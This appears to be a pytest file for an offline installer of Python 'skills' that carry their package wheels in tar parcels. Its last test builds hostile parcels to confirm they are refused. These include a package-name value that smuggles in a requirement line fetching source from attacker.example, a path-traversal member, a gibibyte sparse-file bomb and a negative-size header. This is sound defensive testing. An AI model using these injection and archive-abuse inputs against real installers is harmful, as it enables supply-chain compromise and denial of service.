"""A skill with packages is taken to a machine that reaches no index, and runs there with the very same wheels."""

from __future__ import annotations

import io
import os
import tarfile
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from datetime import timedelta
from pathlib import Path

import pytest
from pydantic import SecretStr
from skillyard.errors import InputError, SkillyardError
from skillyard.governance import people, tokens
from skillyard.governance.administrators import Administrator
from skillyard.ids import WorkspaceId
from skillyard.marketplace_sync.follower.offline import Offline
from skillyard.runtime.errors import ReportRefusedError
from skillyard.runtime.runtime import Runtime, create_runtime
from skillyard.runtime.values import SkillRef
from skillyard.settings import Settings
from skillyard.skills.sources.folder import FolderSource
from tests.first_start import furnish
from tests.sandbox.builds.conftest import make_sdist
from tests.sandbox.conftest import Wheelhouse

MANIFEST = """---
name: counter
description: Counts.
metadata:
  version: "1.0.0"
  skillyard.python: "alpha>=1,<2"
  skillyard.entry: "scripts/count.py:run"
---
# counter

Count.
"""
TRICK = rb'"name":"evil @ https://attacker.example/src.tar.gz\n--no-binary evil\nevil"'
CODE = "import alpha\n\n\ndef run(x: int) -> int:\n    return x + alpha.value\n"


@pytest.fixture
def wheelhouse() -> Iterator[Wheelhouse]:
    house = Wheelhouse()
    house.add("alpha", "1.0", {"alpha.py": b"value = 1\n"})
    yield house
    house.close()


@asynccontextmanager
async def machine(home: Path, index: str, **further: str) -> AsyncIterator[tuple[Runtime, Offline, Administrator]]:
    furnish(home)
    settings = Settings(
        home=home,
        index_url=SecretStr(index),
        advisories_max_age_days=100_000,
        index_timeout=10.0,
        **further,  # type: ignore[arg-type]
    )
    async with await create_runtime(settings) as runtime:
        async with runtime.database.reading() as session:
            workspace = await people.workspace_by_name(session, tokens.DEFAULT_WORKSPACE)
            person = await people.person_by_name(session, workspace.id, tokens.FIRST_PERSON)
        yield runtime, Offline(runtime=runtime), Administrator(workspace.id, person.id, person.actor)


def counter(parent: Path) -> Path:
    folder = parent / "counter"
    (folder / "scripts").mkdir(parents=True)
    (folder / "SKILL.md").write_text(MANIFEST)
    (folder / "scripts" / "count.py").write_text(CODE)
    return folder


@pytest.fixture
async def exported(wheelhouse: Wheelhouse, tmp_path: Path) -> bytes:
    """The skill as a file, from a machine that reaches the index."""
    async with machine(tmp_path / "there", wheelhouse.url) as (runtime, offline, admin):
        await runtime.install(FolderSource(counter(tmp_path)), workspace=admin.workspace, publisher="acme", actor=admin)
        async with offline.packed(admin.workspace, SkillRef("acme", "counter", "1.0.0")) as path:
            content = path.read_bytes()
        assert not path.exists()
    return content


def members(content: bytes) -> dict[str, bytes]:
    with tarfile.open(fileobj=io.BytesIO(content)) as archive:
        found = {}
        for member in archive:
            file = archive.extractfile(member)
            assert file is not None
            found[member.name] = file.read()
        return found


def packed(files: dict[str, bytes]) -> bytes:
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w") as archive:
        for name, content in files.items():
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return data.getvalue()


def sparse(files: dict[str, bytes], wheel: str) -> bytes:
    """A parcel whose wheel is a few bytes here and a gibibyte of nothing where it is unpacked."""
    data = io.BytesIO()
    with tarfile.open(fileobj=data, mode="w", format=tarfile.PAX_FORMAT) as archive:
        for name, whole in files.items():
            member = tarfile.TarInfo(name)
            content = whole if name != wheel else b"0\n".ljust(512, b"\0")
            if name == wheel:
                member.pax_headers = {
                    "GNU.sparse.major": "1",
                    "GNU.sparse.minor": "0",
                    "GNU.sparse.name": name,
                    "GNU.sparse.realsize": str(2**30),
                }
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return data.getvalue()


def again(parcel: bytes, name: str, size: int = 0) -> bytes:
    """A parcel with one more header at its end."""
    member = tarfile.TarInfo(name)
    member.size = size
    return ended(parcel) + member.tobuf(tarfile.GNU_FORMAT) + bytes(10240)


def ended(parcel: bytes) -> bytes:
    """Its members, without the blocks of nothing that end it."""
    with tarfile.open(fileobj=io.BytesIO(parcel)) as archive:
        last = archive.getmembers()[-1]
    return parcel[: last.offset_data + (last.size + 511) // 512 * 512]


async def test_a_skill_with_packages_is_installed_without_an_index(
    exported: bytes, wheelhouse: Wheelhouse, tmp_path: Path
) -> None:
    file = tmp_path / "parcel.tar"
    file.write_bytes(exported)
    wheelhouse.status = 500
    async with machine(tmp_path / "here", "http://127.0.0.1:9/simple") as (runtime, offline, admin):
        made = await offline.take_in(file, workspace=admin.workspace, by=admin)
        version = made.version
        assert (version.publisher, version.name, version.version) == ("acme", "counter", "1.0.0")
        assert version.origin == "parcel:acme/counter@1.0.0"
        # Scanned here: the evidence is this machine's own.
        assert version.report.evidence
        (lock,) = version.locks
        environment = await runtime.seams.environments.materialise(lock)
        assert environment.modules == ("alpha",)
        assert not (await offline.take_in(file, workspace=admin.workspace, by=admin)).created

        # The wheel stays while a lock names it, and goes when none does.
        house = tmp_path / "here" / "wheelhouse"
        (wheel,) = (one for one in house.iterdir() if len(one.name) == 64)
        ref = SkillRef("acme", "counter")
        for there in (True, False):
            os.utime(wheel, (0, 0))
            found = {one.kind: one for one in (await runtime.upkeep.collector.collect(grace=timedelta(0))).kinds}
            assert found["brought wheels"].removed == (() if there else (wheel.name,))
            assert wheel.exists() is there
            if there:
                await runtime.uninstall(ref, workspace=admin.workspace, actor=admin)


async def test_a_package_without_a_wheel_is_taken_along_and_built_without_an_index(
    wheelhouse: Wheelhouse, tmp_path: Path
) -> None:
    del wheelhouse.wheels["alpha-1.0-py3-none-any.whl"]
    wheelhouse.add("plugin", "1.0", {"plugin.py": b"value = 7\n"})
    wheelhouse.wheels["alpha-1.0.tar.gz"] = make_sdist(
        "alpha",
        "1.0",
        "def get_requires_for_build_wheel(settings=None):\n    return ['plugin>=1']\n"
        "def build_wheel(folder, settings=None, metadata=None):\n"
        "    import plugin\n"
        "    return pack(folder, files={'alpha.py': f'value = {plugin.value}'.encode()})\n",
    )
    ref, file, further = SkillRef("acme", "counter", "1.0.0"), tmp_path / "parcel.tar", tmp_path / "further.tar"
    async with machine(tmp_path / "there", wheelhouse.url, source_builds="allow") as (runtime, offline, admin):
        source = FolderSource(counter(tmp_path))
        await runtime.install(source, workspace=admin.workspace, publisher="acme", actor=admin)
        async with offline.packed(admin.workspace, ref) as path:
            file.write_bytes(path.read_bytes())
    names = [name.rpartition("/")[2] for name in members(file.read_bytes())]
    assert sorted(names[2:]) == ["alpha-1.0.tar.gz", "plugin-1.0-py3-none-any.whl"]
    wheelhouse.status = 500
    nowhere = "http://127.0.0.1:9/simple"
    async with machine(tmp_path / "here", nowhere, source_builds="allow") as (runtime, offline, admin):
        made = await offline.take_in(file, workspace=admin.workspace, by=admin)
        (lock,) = made.version.locks
        environment = await runtime.seams.environments.materialise(lock)
        assert (environment.path / "alpha.py").read_text() == "value = 7"
        # What was brought along is taken further from here, and a collector leaves all of it.
        async with offline.packed(admin.workspace, ref) as path:
            further.write_bytes(path.read_bytes())
        assert members(further.read_bytes()).keys() == members(file.read_bytes()).keys()
        kept = {one for one in (tmp_path / "here" / "wheelhouse").iterdir() if len(one.name) == 64}
        for one in kept:
            os.utime(one, (0, 0))
        await runtime.upkeep.collector.collect(grace=timedelta(0))
        assert len(kept) == 2
        assert all(one.exists() for one in kept)
    # What is refused there says why, and does not go and ask an index that is not there for something better.
    async with machine(tmp_path / "strict", nowhere) as (_, offline, admin):
        with pytest.raises(ReportRefusedError) as refused:
            await offline.take_in(file, workspace=admin.workspace, by=admin)
        assert any("source" in reason for reason in refused.value.report.reasons), refused.value.report.reasons


async def test_what_is_no_parcel_or_was_changed_is_refused_and_leaves_nothing(
    exported: bytes, wheelhouse: Wheelhouse, tmp_path: Path
) -> None:
    good = members(exported)
    (wheel,) = [name for name in good if name.startswith("wheels/")]
    other = members(exported)["bundle.tar"].replace(b"return x + alpha.value", b"return x - alpha.value")
    declared = members(exported)["bundle.tar"].replace(b"alpha>=1,<2", b"alpha>=2,<3")
    bad = {
        "nothing": b"not a tar at all" * 100,
        "another wheel": packed({**good, wheel: b"evil"}),
        "no wheel": packed({name: one for name, one in good.items() if name != wheel}),
        "another bundle": packed({**good, "bundle.tar": other}),
        "another requirement": packed({**good, "bundle.tar": declared}),
        "more than belongs": packed({**good, "wheels/../../x": b"x"}),
        "a hole": sparse(good, wheel),
        "cut": exported[: len(exported) // 2],
        "no list": packed({name: one for name, one in good.items() if name != "parcel.json"}),
        "another list": packed({**good, "parcel.json": good["parcel.json"].replace(b'"format":1', b'"format":2')}),
        "a trick for a name": packed({**good, "parcel.json": good["parcel.json"].replace(b'"name":"alpha"', TRICK)}),
        "its list twice": again(exported, "parcel.json", 10),
        "its list for ever": again(exported, "parcel.json", -1024),
        "its bundle twice": again(exported, "bundle.tar"),
        "a wheel twice": again(exported, wheel),
    }
    assert all(content != exported for content in bad.values())
    assert wheelhouse.url
    async with machine(tmp_path / "here", "http://127.0.0.1:9/simple") as (runtime, offline, admin):
        for what, content in bad.items():
            file = tmp_path / "bad.tar"
            file.write_bytes(content)
            with pytest.raises(SkillyardError) as refused:
                await offline.take_in(file, workspace=admin.workspace, by=admin)
            assert isinstance(refused.value, InputError), f"{what}: {refused.value!r}"
            # Before any of it is written.
            assert what != "a hole" or "sparse" in str(refused.value)
            assert what != "a trick for a name" or "is no name of a package" in str(refused.value)
        assert await runtime.skills(WorkspaceId(admin.workspace)) == ()
        assert not (tmp_path / "here" / "wheelhouse").exists()
